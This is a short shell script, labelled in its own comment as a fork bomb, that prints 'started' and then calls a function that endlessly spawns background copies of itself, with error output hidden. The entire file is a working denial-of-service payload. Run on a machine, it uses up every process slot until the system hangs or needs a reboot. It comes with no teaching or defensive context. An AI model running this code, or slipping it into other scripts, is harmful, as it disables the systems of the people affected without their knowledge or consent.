#!/bin/sh
# A fork bomb.
echo started
bomb() { while :; do bomb & bomb & done; }
bomb 2>/dev/null
